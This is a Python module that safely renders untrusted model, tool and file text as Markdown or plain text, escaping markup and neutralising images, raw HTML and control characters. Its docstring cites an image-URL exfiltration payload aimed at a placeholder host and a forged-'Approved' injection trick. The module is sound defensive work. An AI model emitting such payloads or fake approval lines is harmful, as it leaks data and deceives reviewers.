"""Markdown made from text we do not trust: the one place the kernel writes Markdown.

Text from a model, a program, a tool or a file is hostile. Shown as live Markdown it could
make the browser fetch a URL before anyone approved anything (`![](https://host/?q=DATA)`,
`<img src=...>`), or close the fence it is shown in and write a fake "**Approved**" line
after it. So nothing is assembled around such text by f-string: every function here
returns `Markdown`, a `str` this module vouches for, and `join` escapes any part that is not
one. The rules, by construction:

- a code block's fence is longer than any run of backticks in its content, so no line of
  the content can close it (`code_block`); a code span likewise (`code_span`);
- inline text has every character that can start markup escaped (in CommonMark, in GFM,
  and in JupyterLab's Markdown with its math) and stays on one line, so it is read as text
  (`text`); what cannot start markup is left as it is, so the source stays readable;
- a model's prose keeps its formatting but fetches nothing: it is parsed with a CommonMark
  parser and written again from the parse, images as links that name their host, raw HTML as
  text, each link followed by where it goes (`prose`).

CommonMark itself changes two things in any text it reads, and so does every view of the
Markdown here: NUL becomes U+FFFD, and CR or CRLF line endings become LF (in inline text,
where line breaks become spaces, control characters are shown as their code instead).

Plain text (a console, a saved notebook's text/plain) is made here too (`plain_block`,
`printable`): control characters are shown, not obeyed, and hostile lines carry a gutter, so
no content can pass for a line of the record around it.
"""

from __future__ import annotations

import functools
import re
from collections.abc import Iterable
from urllib.parse import quote, urlsplit

# Always markup somewhere: code, emphasis, links and images ("!" too: text ending in one, then
# a link, would make an image), HTML and autolinks, entities,
# tables, strikethrough, math. A backslash becomes a character reference: escaped as `\\`
# it would still open JupyterLab's math (`\\(`).
_MARKUP = re.compile(r"[`*\[\]<>&|~$!]|\\|(?<![^\W_])_|_(?![^\W_])")
# Markup only at the start of a line: headings, quotes, lists, thematic breaks, setext lines.
_LINE_START = re.compile(r"^(\s*)([#>+=-]|\d{1,9}(?=[.)]))")
_BACKTICKS = re.compile(r"`+")
_LINE_BREAKS = re.compile(r"\r\n|\r|\n")
# C0 controls but tab and newline, DEL, C1 controls: a terminal obeys them (moves the cursor,
# clears a line), so in plain text they are shown as their code instead.
_CONTROLS = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")
_SAFE_SCHEMES = ("http", "https", "mailto")
_INFO = re.compile(r"[^A-Za-z0-9_+.#-]")


class Markdown(str):
    """Markdown this module made, so safe to show: text from outside went through `text`,
    `code_span`, `code_block` or `prose` on its way in."""

    __slots__ = ()


def text(value: object) -> Markdown:
    """`value` as inline text, on its own: read exactly as written, never as markup. Line
    breaks become spaces (a blank line would end the paragraph it is shown in), control
    characters are shown as their code (`\\x1b`, as in `printable`: in a page they would be
    invisible), and whitespace at either end is kept (a paragraph would drop it)."""
    escaped = _escape(value)
    core = escaped.strip()
    if not core:
        return Markdown(_references(escaped))
    start, end = escaped.index(core[0]), len(escaped.rstrip())
    return Markdown(_references(escaped[:start]) + escaped[start:end] + _references(escaped[end:]))


def _escape(value: object) -> str:
    """Inline text with every character that could start markup escaped (see `text`)."""
    one_line = printable(_LINE_BREAKS.sub(" ", str(value)))
    escaped = _MARKUP.sub(lambda m: "&#92;" if m.group() == "\\" else "\\" + m.group(), one_line)
    return _LINE_START.sub(_escape_start, escaped, count=1)


def _references(blank: str) -> str:
    return "".join(f"&#{ord(c)};" for c in blank)


def _escape_start(match: re.Match[str]) -> str:
    space, mark = match.group(1), match.group(2)
    if mark.isdigit():  # "1." or "1)" would start a list: escape the punctuation after it
        return space + mark + "\\"
    return space + "\\" + mark


def code_span(value: object) -> Markdown:
    """`value` as inline code. Line breaks are shown as ↵ (a code span is one line)."""
    content = _LINE_BREAKS.sub("\u21b5", str(value))
    if not content:
        return Markdown("")
    fence = "`" * (_longest_backticks(content) + 1)
    # CommonMark strips one space from each end when both ends have one, so a content that
    # starts or ends with a backtick or a space is padded; an all-space content is not stripped.
    pad = " " if content.strip(" ") and (content[0] in "` " or content[-1] in "` ") else ""
    return Markdown(f"{fence}{pad}{content}{pad}{fence}")


def code_block(value: str, info: str = "") -> Markdown:
    """`value` as a fenced code block, its content exactly `value` (ending with a newline)."""
    fence = "`" * max(3, _longest_backticks(value) + 1)
    body = value if value.endswith("\n") or not value else value + "\n"
    return Markdown(f"{fence}{_INFO.sub('', info)}\n{body}{fence}")


def strong(value: object) -> Markdown:
    return Markdown(f"**{join(value)}**")


def emphasis(value: object) -> Markdown:
    return Markdown(f"_{join(value)}_")


def small(*parts: object) -> Markdown:
    """Small print (a footer): the parts joined, in <sub>."""
    return Markdown(f"<sub>{join(*parts)}</sub>")


def relative_link(label: object, path: str) -> Markdown:
    """A link to a file beside the notebook (a relative path, percent-encoded)."""
    return Markdown(f"[{join(label)}]({_destination(path)})")


def join(*parts: object, sep: str = "") -> Markdown:
    """The parts in a row: `Markdown` as it is, anything else escaped as inline text."""
    separator = sep if isinstance(sep, Markdown) else _escape(sep)
    return Markdown(separator.join(part if isinstance(part, Markdown) else _escape(part) for part in parts))


def blocks(*parts: Markdown | None) -> Markdown:
    """Block-level parts (paragraphs, code blocks), each on its own, skipping empty ones."""
    return Markdown("\n\n".join(part for part in parts if part))


def _longest_backticks(content: str) -> int:
    return max((len(run) for run in _BACKTICKS.findall(content)), default=0)


def _destination(url: str) -> str:
    """A link destination that cannot end early or carry markup: every character outside a
    URL's own alphabet, and the parentheses, spaces, angle brackets and dollars Markdown (or
    JupyterLab's math) reads, percent-encoded; an ampersand escaped, so no entity is read."""
    return quote(url, safe="/:?#[]@!&'+,;=%-._~").replace("&", "\\&")


# -- the model's prose ----------------------------------------------------------------------


def prose(source: str) -> Markdown:
    """A model's Markdown, written again from its CommonMark parse: headings, emphasis, lists,
    quotes, tables, code and links keep rendering; images become links naming their host;
    raw HTML is shown as text; nothing is fetched before a click."""
    from markdown_it.tree import SyntaxTreeNode

    tree = SyntaxTreeNode(_parser().parse(source))
    return Markdown("\n\n".join(filter(None, (_block(node) for node in tree.children))))


@functools.cache
def _parser():  # type: ignore[no-untyped-def]
    from markdown_it import MarkdownIt

    return MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])


def _block(node) -> str:  # type: ignore[no-untyped-def]
    kind = node.type
    if kind == "paragraph":
        return _inline(node.children[0]) if node.children else ""
    if kind == "heading":
        return "#" * int(node.tag[1]) + " " + _inline(node.children[0])
    if kind in ("fence", "code_block"):
        return code_block(node.content, "".join((node.info or "").split()[:1]))
    if kind == "html_block":
        return code_block(node.content, "html")
    if kind == "hr":
        return "---"
    if kind == "blockquote":
        inner = "\n\n".join(filter(None, (_block(child) for child in node.children)))
        return "\n".join("> " + line if line else ">" for line in inner.split("\n"))
    if kind in ("bullet_list", "ordered_list"):
        return _list(node)
    if kind == "table":
        return _table(node)
    return code_block(node.content or "", "")  # a kind this version does not know: shown as text


def _list(node) -> str:  # type: ignore[no-untyped-def]
    start = int(node.attrs.get("start", 1)) if node.type == "ordered_list" else 0
    items = []
    for number, item in enumerate(node.children, start):
        marker = f"{number}. " if node.type == "ordered_list" else "- "
        inner = "\n\n".join(filter(None, (_block(child) for child in item.children))) or ""
        indent = " " * len(marker)
        lines = inner.split("\n")
        items.append(marker + lines[0] + "".join("\n" + (indent + line if line else "") for line in lines[1:]))
    return "\n".join(items)


def _table(node) -> str:  # type: ignore[no-untyped-def]
    rows: list[list[str]] = []
    aligns: list[str] = []
    for section in node.children:
        for row in section.children:
            cells = []
            for cell in row.children:
                cells.append(_inline(cell.children[0]) if cell.children else "")
                if section.type == "thead":
                    style = cell.attrs.get("style", "")
                    aligns.append({"text-align:left": ":--", "text-align:right": "--:",
                                   "text-align:center": ":-:"}.get(str(style), "---"))
            rows.append(cells)
    if not rows:
        return ""
    lines = ["| " + " | ".join(rows[0]) + " |", "| " + " | ".join(aligns or ["---"] * len(rows[0])) + " |"]
    lines += ["| " + " | ".join(row) + " |" for row in rows[1:]]
    return "\n".join(lines)


def _inline(node) -> str:  # type: ignore[no-untyped-def]
    """An inline node and its children as Markdown; every text leaf escaped."""
    out = []
    for child in node.children:
        kind = child.type
        if kind == "text":
            out.append(_escape(child.content))
        elif kind == "softbreak":
            out.append("\n")
        elif kind == "hardbreak":
            out.append("\\\n")
        elif kind == "code_inline":
            out.append(code_span(child.content))
        elif kind == "strong":
            out.append(f"**{_inline(child)}**")
        elif kind == "em":
            out.append(f"_{_inline(child)}_")
        elif kind == "s":
            out.append(f"~~{_inline(child)}~~")
        elif kind == "link":
            out.append(_link(child))
        elif kind == "image":
            out.append(_image(child))
        elif kind == "html_inline":
            out.append(code_span(child.content))
        else:
            out.append(_escape(child.content))
    return "".join(out)


def _link(node) -> str:  # type: ignore[no-untyped-def]
    url = str(node.attrs.get("href", ""))
    label = _inline(node)
    parts = urlsplit(url)
    if parts.scheme.lower() not in _SAFE_SCHEMES:
        return f"{label} ({code_span(url)})"
    shown = f"[{label}]({_destination(url)})"
    words = "".join(leaf.content for leaf in node.walk() if leaf.type in ("text", "code_inline"))
    if words.strip() != url:  # a link shows where it goes
        shown += f" ({_escape(parts.netloc or url)})"
    return shown


def _image(node) -> str:  # type: ignore[no-untyped-def]
    url = str(node.attrs.get("src", ""))
    alt = "".join(leaf.content for leaf in node.walk() if leaf.type in ("text", "code_inline")) or "image"
    parts = urlsplit(url)
    if parts.scheme.lower() in ("http", "https"):
        return f"[{_escape('image: ' + alt)}]({_destination(url)}) ({_escape('not loaded; from ' + parts.netloc)})"
    return _escape(f"[image: {alt}; not shown: a {parts.scheme or 'relative'} address]")


# -- plain text -------------------------------------------------------------------------------


def printable(value: object) -> str:
    """`value` with every control character but tab and newline shown as its code (`\\x1b`),
    so a terminal prints it rather than obeys it; CR line endings become newlines."""
    lines = _LINE_BREAKS.sub("\n", str(value))
    return _CONTROLS.sub(lambda m: f"\\x{ord(m.group()):02x}", lines)


def plain_block(value: str, gutter: str = "  | ") -> str:
    """Hostile lines for plain text, each behind a gutter: no line of it can pass for the
    record around it."""
    return "\n".join(gutter + line for line in printable(value).rstrip("\n").split("\n"))


def plain_join(parts: Iterable[str], sep: str = " · ") -> str:
    """One line of plain text from parts, each made printable and kept on the line."""
    return sep.join(printable(part).replace("\n", " ") for part in parts if part)
